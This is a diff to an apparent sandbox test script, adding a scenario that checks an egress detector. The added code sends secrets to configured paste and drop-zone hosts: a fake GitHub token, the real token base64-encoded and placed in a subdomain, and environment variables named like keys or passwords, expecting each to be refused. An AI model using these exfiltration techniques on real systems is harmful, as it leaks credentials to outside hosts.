@@ -4,9 +4,12 @@ It runs inside the bottle with nothing but what a bottle gives. Each line it pri
 a scenario, whether it went as bot-bottle promises, and the evidence.
 """
 
+import base64
 import json
 import os
+import secrets
 import socket
+import string
 import subprocess
 import sys
 import time
@@ -18,12 +21,14 @@ def report(name, ok, evidence):
     print(json.dumps({"scenario": name, "ok": bool(ok), "evidence": evidence}), flush=True)
 
 
-def curl(url, *options):
+def curl(url, *options, sent=None):
     """The status that a real client gets, and the body or the client's own error."""
-    command = ["curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", *options, url]
-    done = subprocess.run(command, capture_output=True, text=True)
-    body, _, status = done.stdout.rpartition("\n")
-    return int(status or 0), body if done.returncode == 0 else done.stderr.strip()
+    command = ["curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", *options]
+    if sent is not None:
+        command += ["--data-binary", "@-"]
+    done = subprocess.run([*command, url], capture_output=True, input=sent or b"")
+    body, _, status = done.stdout.decode(errors="replace").rpartition("\n")
+    return int(status or 0), body if done.returncode == 0 else done.stderr.decode(errors="replace").strip()
 
 
 def allowed():
@@ -110,15 +115,45 @@ def search(needle):
     return hits, read
 
 
+def real_token():
+    # It travels masked, so that what is searched does not hold it.
+    return bytes(byte ^ 0x55 for byte in bytes.fromhex(CONFIG["masked_token"]))
+
+
 def token_is_nowhere():
-    # The needle travels masked, so that what is searched does not hold it.
-    needle = bytes(byte ^ 0x55 for byte in bytes.fromhex(CONFIG["masked_token"]))
+    needle = real_token()
     marker = CONFIG["marker"].encode()
     control, _ = search(marker)
     hits, read = search(needle)
     ok = not hits and bool(control)
     report("real token is nowhere inside", ok, f"searched {read} files, found in {hits or 'none'}; "
            f"a planted marker was found in {len(control)}")
+
+
+def must_be_refused(name, rule, url, *options, sent=None):
+    """A request that a detector must stop."""
+    status, body = curl(url, *options, sent=sent)
+    try:
+        told = json.loads(body)
+    except ValueError:
+        told = {}
+    if not isinstance(told, dict):
+        told = {}
+    said = f"rule {told.get('rule')}: {told.get('reason')}" if told else repr(body[:80])
+    report(name, status == 403 and told.get("rule") == rule, f"HTTP {status}, {said}")
+
+
+def exfiltration():
+    paste, token = f"https://{CONFIG['paste_host']}/", real_token()
+    status, _ = curl(paste, sent=b"nothing that anybody minds")
+    report("harmless POST", status == 200, f"HTTP {status}")
+    made_up = "gh" + "p_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))
+    must_be_refused("POST of a token", "secret", paste, sent=json.dumps({"note": made_up}).encode())
+    must_be_refused("known secret, base64", "secret", paste, sent=b"log=" + base64.b64encode(b"found: " + token))
+    must_be_refused("known secret, subdomain", "secret", f"https://{token.decode().lower()}.{CONFIG['drop_zone']}/")
+    names = ("TOKEN", "KEY", "SECRET", "PASSWORD")
+    stolen = {name: value for name, value in os.environ.items() if name.endswith(names)}
+    must_be_refused("canary from the environment", "canary", paste, sent=json.dumps(stolen).encode())
 
 
 def live_route():
@@ -134,7 +169,7 @@ def live_route():
 
 
 if __name__ == "__main__":
-    for scenario in (allowed, refused, ways_out, token_is_nowhere, live_route):
+    for scenario in (allowed, refused, ways_out, token_is_nowhere, exfiltration, live_route):
         try:
             scenario()
         except Exception as error:  # A scenario that breaks has not shown what it should.
